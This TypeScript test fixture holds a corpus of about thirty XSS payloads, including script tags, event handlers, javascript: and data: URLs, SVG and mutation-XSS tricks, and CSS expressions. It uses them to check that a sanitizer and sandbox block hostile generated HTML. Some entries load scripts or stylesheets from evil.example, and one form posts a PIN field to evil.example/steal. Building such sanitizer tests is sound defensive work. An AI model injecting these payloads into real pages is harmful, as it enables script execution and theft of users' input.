/**
 * Hostile instructions for the `hostile_html` fault: the XSS payloads a compromised or confused generator could
 * return. Every active payload would set `window.top.__pwned` and change `document.title` if it ran, so a test can
 * assert that nothing did. The console's sanitizer tests use the same corpus.
 */

export const PWN = "window.top.__pwned=1;document.title='pwned'";

export const HOSTILE_PAYLOADS: readonly { name: string; html: string }[] = [
  { name: "script element", html: `<script>${PWN}</script>` },
  { name: "external script", html: `<script src="https://evil.example/x.js"></script>` },
  { name: "uppercase script", html: `<SCRIPT>${PWN}</SCRIPT>` },
  { name: "img onerror", html: `<img src="x" onerror="${PWN}" alt="broken">` },
  { name: "unquoted onerror", html: `<img src=x onerror=${PWN.replace(/'/g, "")}>` },
  { name: "body onload", html: `<body onload="${PWN}">` },
  { name: "details ontoggle", html: `<details open ontoggle="${PWN}"><summary>More</summary></details>` },
  { name: "input autofocus onfocus", html: `<input autofocus onfocus="${PWN}">` },
  { name: "video source onerror", html: `<video><source onerror="${PWN}"></video>` },
  { name: "svg onload", html: `<svg onload="${PWN}" width="10" height="10"><circle r="5"/></svg>` },
  { name: "svg script", html: `<svg><script>${PWN}</script></svg>` },
  {
    name: "svg link",
    html: `<svg><a xlink:href="javascript:${PWN}"><text x="0" y="10">Tap</text></a></svg>`,
  },
  { name: "svg animate href", html: `<svg><a><animate attributeName="href" values="javascript:${PWN}"/></a></svg>` },
  { name: "svg foreignObject", html: `<svg><foreignObject><img src=x onerror="${PWN}"></foreignObject></svg>` },
  { name: "javascript link", html: `<a href="javascript:${PWN}">Install now</a>` },
  { name: "obfuscated javascript link", html: `<a href=" JaVa&#83;cript:${PWN}">Open</a>` },
  { name: "data html link", html: `<a href="data:text/html,&lt;script&gt;${PWN}&lt;/script&gt;">Data</a>` },
  { name: "style expression", html: `<div style="width: expression(${PWN})">expression</div>` },
  { name: "style javascript url", html: `<div style="background:url(javascript:${PWN})">bg</div>` },
  {
    name: "style sheet",
    html:
      `<style>@import url(https://evil.example/x.css); .pw{background:url("javascript:${PWN}")}` +
      ` .px{width:expression(${PWN})} .py{behavior:url(x.htc)} .pz{-moz-binding:url(x.xml#b)}</style>`,
  },
  { name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { name: "base", html: `<base href="https://evil.example/">` },
  { name: "link stylesheet", html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  {
    name: "form",
    html: `<form action="https://evil.example/steal"><input name="pin"><button formaction="javascript:${PWN}">Send</button></form>`,
  },
  { name: "iframe javascript", html: `<iframe src="javascript:${PWN}"></iframe>` },
  { name: "iframe srcdoc", html: `<iframe srcdoc="<script>${PWN}</script>"></iframe>` },
  { name: "object", html: `<object data="javascript:${PWN}"></object>` },
  { name: "embed", html: `<embed src="javascript:${PWN}">` },
  { name: "noscript mutation", html: `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></p></noscript>` },
  { name: "math mutation", html: `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">` },
];

/** The instructions page with every payload mixed in before its end. */
export function withHostilePayloads(html: string): string {
  const corpus = `<section class="hostile">${HOSTILE_PAYLOADS.map((payload) => payload.html).join("\n")}</section>`;
  const at = html.lastIndexOf("</main>");
  return at >= 0 ? `${html.slice(0, at)}${corpus}\n${html.slice(at)}` : `${html}${corpus}`;
}
